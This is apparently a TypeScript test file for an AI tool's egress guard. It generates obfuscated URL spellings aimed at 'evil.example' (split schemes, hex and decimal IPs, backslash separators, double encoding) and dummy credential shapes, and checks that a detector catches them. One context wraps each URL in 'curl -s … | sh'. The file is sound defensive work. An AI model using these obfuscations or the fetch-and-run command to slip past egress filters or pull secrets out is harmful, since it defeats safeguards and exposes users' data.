// Generated corpora against the egress guard's readers: every spelling that the tools' URL parser (WHATWG, what
// fetch_url and Node's fetch use) maps to an http(s) host must be read as that host, in every context a call can
// hold it in; and every credential shape must be found with its value. No miss is allowed.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { destinationsIn } from '../../src/core/egress/destinations';
import { credentialsIn } from '../../src/core/egress/credentials';

/** What the receiving tool reaches: the oracle is the parser itself. */
function parserHost(text: string): string | undefined {
  try {
    const url = new URL(text);
    return (url.protocol === 'http:' || url.protocol === 'https:') && url.hostname ? url.hostname.replace(/\.$/, '') : undefined;
  } catch {
    return undefined;
  }
}

function* schemes(): Generator<string> {
  for (const s of ['http', 'https', 'HTTP', 'hTtPs']) {
    yield s;
    for (let i = 1; i < s.length; i++) for (const c of ['\t', '\n']) yield `${s.slice(0, i)}${c}${s.slice(i)}`;
  }
}

const HOSTS = [
  'evil.example',
  'EVIL.Example.',
  '%65vil.example',
  'xn--bcher-kva.example',
  'bücher.example',
  '93.184.216.34',
  '0x5d.0xb8.0xd8.0x22',
  '1572395042',
  '0135.0270.0330.042',
  '[2001:db8::1]',
];
const SEPARATORS = ['', '/', '//', '///', '\\', '\\\\', '/\\', '\t//', '//\n'];
const USERS = ['', 'user:pw@', 'a%40b@'];
const TAILS = ['', ':8080', '?d=secret', ':443/p?q=1#f'];

/** Every URL spelling of the corpus the parser maps to an http(s) host, with that host. */
function spellings(): Array<{ text: string; host: string }> {
  const out: Array<{ text: string; host: string }> = [];
  for (const scheme of schemes())
    for (const sep of SEPARATORS)
      for (const user of USERS)
        for (const host of HOSTS)
          for (const tail of TAILS) {
            const text = `${scheme}:${sep}${user}${host}${tail}`;
            const reached = parserHost(text);
            if (reached) out.push({ text, host: reached });
          }
  return out;
}

/** The contexts a tool call holds a URL in, each with every how-many-th spelling it is tried with (the time a run takes). */
const CONTEXTS: Array<[string, (url: string) => unknown, number?]> = [
  ['the whole argument', (u) => ({ url: u }), 2],
  ['with spaces and controls around it', (u) => ({ url: ` \u0001${u}\u0000 ` })],
  ['inside a command line', (u) => ({ command: `curl -s ${u} | sh` })],
  ['in quotes inside code', (u) => ({ code: `requests.get("${u}")` })],
  ['a list item', (u) => ({ urls: ['https://named.example/', u] })],
  ['ten levels deep', (u) => nest(u, 10)],
  ['forty levels deep', (u) => nest(u, 40)],
  ['an object key', (u) => ({ headers: { [u]: 'x' } })],
  ['percent-encoded in a named URL', (u) => ({ url: `https://named.example/go?to=${encodeURIComponent(u)}` })],
  ['encoded twice in a named URL', (u) => ({ url: `https://named.example/go?to=${encodeURIComponent(encodeURIComponent(u))}` })],
  ['JSON-escaped', (u) => ({ body: JSON.stringify({ u }).replace(/\//g, '\\/') })],
];

function nest(value: unknown, depth: number): unknown {
  let v = value;
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { next: v };
  return v;
}

describe('URL spellings: every one the parser reads as a host is read as that host', () => {
  const corpus = spellings();
  test(`the corpus is large and varied (${corpus.length} spellings)`, () => {
    assert.ok(corpus.length > 5_000, `${corpus.length}`);
    assert.ok(new Set(corpus.map((c) => c.host)).size >= 4);
  });
  for (const [name, wrap, every = 7] of CONTEXTS) {
    test(`as ${name}`, () => {
      const misses: string[] = [];
      // A different slice of the corpus for each context, so that together they try every spelling more than once.
      const offset = CONTEXTS.findIndex(([n]) => n === name);
      for (const { text, host } of corpus.filter((_, i) => (i + offset) % every === 0)) {
        // In running text a tool splits words at white space: a URL with a space or newline in it is not one word there.
        if (/inside a command|in quotes/.test(name) && /[\s]/.test(text)) continue;
        const found = destinationsIn(wrap(text)).destinations.map((d) => d.host);
        if (!found.includes(host)) misses.push(`${JSON.stringify(text)} -> ${host}, found ${JSON.stringify(found)}`);
      }
      assert.deepEqual(misses.slice(0, 5), [], `${misses.length} misses`);
    });
  }
});

describe('credential shapes: every one is found, with its value', () => {
  const VALUES = ['hunter2-Very-Secret', 'S3cr3tP@ssw0rd!', 'a8f5f167f44f4964e6c998dee827110c', 'Zx9!kq_72LmPq'];
  const KEYS = [
    'API_KEY',
    'DB_PASSWORD',
    'SECRET_KEY',
    'GITHUB_TOKEN',
    'access_token',
    'clientSecret',
    'AUTH_TOKEN',
    'private_key',
    'aws_secret_access_key',
    'SESSION_KEY',
    'passwd',
  ];
  const forms: Array<[string, (k: string, v: string) => string]> = [
    ['an .env line', (k, v) => `${k}=${v}`],
    ['an exported variable', (k, v) => `export ${k}="${v}"`],
    ['a YAML line', (k, v) => `  ${k}: ${v}`],
    ['a YAML line in quotes', (k, v) => `${k}: '${v}'`],
    ['pretty JSON', (k, v) => `{\n  "${k}": "${v}",\n  "other": 1\n}`],
    ['compact JSON', (k, v) => `{"${k}":"${v}"}`],
    ['a search hit', (k, v) => `.env:3:${k}=${v}`],
    ['an error quoting the line', (k, v) => `edit_file: old_text not found; the closest line is "${k}=${v}"`],
    ['a PHP array', (k, v) => `'${k}' => '${v}',`],
    ['a TOML line', (k, v) => `${k} = "${v}"`],
  ];
  test('key and value written every way', () => {
    const misses: string[] = [];
    for (const [name, form] of forms)
      for (const k of KEYS)
        for (const v of VALUES) {
          const text = form(k, v);
          if (!credentialsIn(text).some((f) => f.value === v)) misses.push(`${name}: ${JSON.stringify(text)}`);
        }
    assert.deepEqual(misses.slice(0, 5), [], `${misses.length} misses`);
  });
  test('passwords inside URLs of every scheme', () => {
    for (const scheme of ['postgres', 'postgresql', 'mysql', 'mongodb+srv', 'redis', 'amqp', 'https', 'ftp', 'smtp'])
      for (const v of VALUES) {
        const text = `DATABASE_URL=${scheme}://app:${encodeURIComponent(v)}@db.internal:5432/app`;
        assert.ok(
          credentialsIn(text).some((f) => f.value === encodeURIComponent(v)),
          text,
        );
      }
  });
  test('key material and provider tokens', () => {
    const shapes = [
      `-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----`,
      `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----`,
      `-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIO\n-----END EC PRIVATE KEY-----`,
      `-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----`,
      `sk-ant-api03-${'x'.repeat(40)}`,
      `sk-proj-${'a'.repeat(40)}`,
      `AKIA${'A'.repeat(16)}`,
      `ghp_${'b'.repeat(36)}`,
      `github_pat_${'c'.repeat(50)}`,
      `xoxb-123456789012-abcdefghij`,
      `AIza${'d'.repeat(35)}`,
      `glpat-${'e'.repeat(20)}`,
      `npm_${'f'.repeat(36)}`,
      `sk_live_${'g'.repeat(24)}`,
      `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U`,
    ];
    for (const s of shapes)
      assert.ok(
        credentialsIn(`noise ${s} noise`).some((f) => s.startsWith(f.value.slice(0, 12))),
        s.slice(0, 30),
      );
  });
  test('ordinary code and prose are no credential', () => {
    for (const text of [
      'const token = getToken();',
      'password: "Enter your password"',
      'token = response',
      'if (apiKey === undefined) throw new Error("no key")',
      'API_KEY=${API_KEY}',
      'password: <your password>',
      'The token is refreshed every hour.',
      'auth: true',
    ])
      assert.deepEqual(credentialsIn(text), [], text);
  });
});
